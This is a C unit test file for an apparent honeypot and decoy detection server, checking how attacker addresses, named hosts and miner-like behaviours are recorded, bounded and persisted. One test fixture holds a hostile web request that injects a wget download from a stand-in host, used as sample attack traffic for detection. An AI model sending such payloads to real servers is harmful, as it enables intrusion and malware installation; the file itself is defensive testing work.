/* SPDX-License-Identifier: GPL-2.0-or-later */
/* What becomes an attacker's, and what never does, whoever tries. */
#include "server/detect/detect.h"
#include "server/fleet/decoys.h"
#include "server/store/writer.h"
#include "tests/unit/tree.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>

#include <arpa/inet.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define S        1000000ull
#define NOW_US   (1700000000ull * S)
#define HONEYPOT 9u
#define ORDINARY 1u
#define MINER    77u

struct fixture {
	struct store_config store;
	struct fleet_config cfg;
	struct decoys *decoys;
	char dir[64];
};

static bool
spares(const char *address, void *ctx)
{
	(void)ctx;
	return strcmp(address, "192.0.2.1") == 0;
}

static int
setup(void **state)
{
	struct fixture *f = calloc(1, sizeof(*f));
	char why[200];

	snprintf(f->dir, sizeof(f->dir), "/tmp/decoys.XXXXXX");
	if (mkdtemp(f->dir) == NULL)
		return -1;
	f->store = (struct store_config){ .dir = f->dir };
	f->cfg = (struct fleet_config){
		.backend = store_lookup("sqlite"), .store = &f->store, .spares = spares
	};
	f->cfg.writer = writer_start(f->cfg.backend, &f->store, why, sizeof(why));
	f->decoys = decoys_new(&f->cfg);
	*state = f;
	return f->cfg.writer != NULL && f->decoys != NULL ? 0 : -1;
}

static int
teardown(void **state)
{
	struct fixture *f = *state;
	int r;

	decoys_free(f->decoys);
	writer_stop(f->cfg.writer);
	r = tree_remove(f->dir);
	free(f);
	return r;
}

static void
comes_and_says(
    struct fixture *f, const char *address, const char *said, bool is_honeypot, bool success)
{
	struct login_event ev = { .host = HONEYPOT,
		.host_name = "hp1",
		.daemon = "",
		.user = "root",
		.method = "redis",
		.wanted = said,
		.decoy = !is_honeypot,
		.success = success,
		.count = 1,
		.time_us = NOW_US };

	ev.address_size = strchr(address, ':') != NULL ? 16 : 4;
	inet_pton(ev.address_size == 4 ? AF_INET : AF_INET6, address, ev.address);
	decoys_came(f->decoys, &ev, attack_request(said, strlen(said)), is_honeypot);
}

static void
comes(struct fixture *f, const char *address, bool is_honeypot, bool success)
{
	comes_and_says(f, address, "", is_honeypot, success);
}

static const struct attack *
known(const struct decoys *d, const char *address)
{
	uint8_t raw[16], to[16];
	unsigned size = strchr(address, ':') != NULL ? 16 : 4;

	inet_pton(size == 4 ? AF_INET : AF_INET6, address, raw);
	return attacks_find(decoys_attacks(d), ATTACK_SOURCE, attack_source(raw, size, to), NOW_US);
}

static bool
is_attack(const struct fixture *f, uint64_t behaviour)
{
	return attacks_find(decoys_attacks(f->decoys), ATTACK_BEHAVIOUR, behaviour, NOW_US) != NULL;
}

static void
does(struct fixture *f, uint32_t host, uint64_t behaviour, uint64_t now_us)
{
	struct knowledge_news n = {
		.host = host, .behaviour = behaviour, .fresh = true, .learnt = true
	};

	decoys_fact(f->decoys, &n, host == HONEYPOT, now_us);
}

static void
who_comes_is_known_with_host_and_decoy(void **state)
{
	struct fixture *f = *state;

	comes(f, "203.0.113.9", false, false);
	comes(f, "2001:db8::9", true, false);
	assert_string_equal(known(f->decoys, "203.0.113.9")->decoy, "redis");
	assert_string_equal(known(f->decoys, "203.0.113.9")->host_name, "hp1");
	assert_string_equal(known(f->decoys, "2001:db8::77")->decoy, "");
}

static void
who_is_never_blocked_and_hosts_of_the_fleet_are_no_attackers(void **state)
{
	struct fixture *f = *state;

	comes(f, "192.0.2.1", false, false);
	assert_null(known(f->decoys, "192.0.2.1"));
	comes(f, "10.0.0.5", false, false);
	comes(f, "2001:db8::5", false, false);
	decoys_own(f->decoys, "10.0.0.5:40000");
	decoys_own(f->decoys, "[2001:db8::5]:40000");
	decoys_own(f->decoys, "");
	assert_null(known(f->decoys, "10.0.0.5"));
	assert_null(known(f->decoys, "2001:db8::5"));
}

static bool
is_named(const struct fixture *f, uint8_t last)
{
	const uint8_t raw[4] = { 198, 51, 100, last };
	uint8_t to[16];

	return attacks_find(decoys_attacks(f->decoys), ATTACK_NAMED, attack_source(raw, 4, to),
		   NOW_US) != NULL;
}

static void
what_a_visitor_says_is_known_and_bounded(void **state)
{
	static const char path[] = "GET /shell?cd HTTP/1.1";
	struct login_found found = { .source = "203.0.113.77", .time_us = NOW_US };
	struct finding f = { .score = 50 };
	struct fixture *fix = *state;

	comes_and_says(fix, "203.0.113.9",
	    "GET /shell?wget+http://198.51.100.1/a;192.0.2.1;198.51.100.2;198.51.100.3;198.51.100.4;198.51.100.5",
	    false, false);
	assert_true(is_named(fix, 1));
	assert_true(is_named(fix, 3));
	assert_false(is_named(fix, 5)); /* no more of one visitor's words */
	decoys_own(fix->decoys, "198.51.100.1:443");
	assert_false(is_named(fix, 1));
	decoys_say(fix->decoys, &found, attack_request(path, strlen(path)), &f);
	assert_true(f.score > 50);
	assert_non_null(
	    strstr(f.reason, "the decoy redis on host hp1 was asked for the same path "));
	f = (struct finding){ .score = 50 };
	decoys_say(fix->decoys, &found, attack_request("GET /other ", 11), &f);
	assert_string_equal(f.reason, "");
}

static void
a_honeypot_teaches_only_while_somebody_is_in_it(void **state)
{
	struct fixture *f = *state;

	does(f, HONEYPOT, MINER, NOW_US);
	comes(f, "203.0.113.9", true, false);
	does(f, HONEYPOT, MINER, NOW_US);
	assert_false(is_attack(f, MINER)); /* who only tries has shown nothing of the kind */
	comes(f, "203.0.113.9", true, true);
	does(f, HONEYPOT, MINER, NOW_US + S);
	assert_true(is_attack(f, MINER));
	does(f, HONEYPOT, MINER + 1, NOW_US + DECOYS_ATTACK_US);
	assert_false(is_attack(f, MINER + 1));
}

static void
what_is_told_of_a_honeypot_begins_an_attack(void **state)
{
	struct fixture *f = *state;
	struct told_news n = {
		.host = HONEYPOT, .host_name = "hp1", .behaviour = MINER, .time_us = NOW_US
	};

	decoys_told(f->decoys, &n);
	does(f, HONEYPOT, MINER + 1, NOW_US + S);
	assert_true(is_attack(f, MINER));
	assert_true(is_attack(f, MINER + 1));
}

static void
what_ordinary_hosts_do_never_counts(void **state)
{
	struct fixture *f = *state;

	comes(f, "203.0.113.9", true, true);
	does(f, ORDINARY, MINER, NOW_US);
	does(f, HONEYPOT, MINER, NOW_US);
	does(f, HONEYPOT, MINER + 1, NOW_US);
	assert_false(is_attack(f, MINER));
	assert_true(is_attack(f, MINER + 1));
	does(f, ORDINARY, MINER + 1, NOW_US);
	assert_false(is_attack(f, MINER + 1));
}

static void
a_server_that_is_started_again_knows_them(void **state)
{
	struct fixture *f = *state;
	struct decoys *again;
	char why[200];

	comes(f, "203.0.113.9", true, true);
	does(f, HONEYPOT, MINER, NOW_US);
	decoys_tick(f->decoys, NOW_US, true);
	writer_stop(f->cfg.writer);
	f->cfg.writer = writer_start(f->cfg.backend, &f->store, why, sizeof(why));
	assert_non_null(f->cfg.writer);
	again = decoys_new(&f->cfg);
	assert_int_equal(decoys_load(again), 0);
	assert_string_equal(known(again, "203.0.113.9")->host_name, "hp1");
	assert_non_null(attacks_find(decoys_attacks(again), ATTACK_BEHAVIOUR, MINER, NOW_US));
	decoys_free(again);
}

#define TEST(name) cmocka_unit_test_setup_teardown(name, setup, teardown)

int
main(void)
{
	const struct CMUnitTest tests[] = {
		TEST(who_comes_is_known_with_host_and_decoy),
		TEST(who_is_never_blocked_and_hosts_of_the_fleet_are_no_attackers),
		TEST(what_a_visitor_says_is_known_and_bounded),
		TEST(a_honeypot_teaches_only_while_somebody_is_in_it),
		TEST(what_is_told_of_a_honeypot_begins_an_attack),
		TEST(what_ordinary_hosts_do_never_counts),
		TEST(a_server_that_is_started_again_knows_them),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
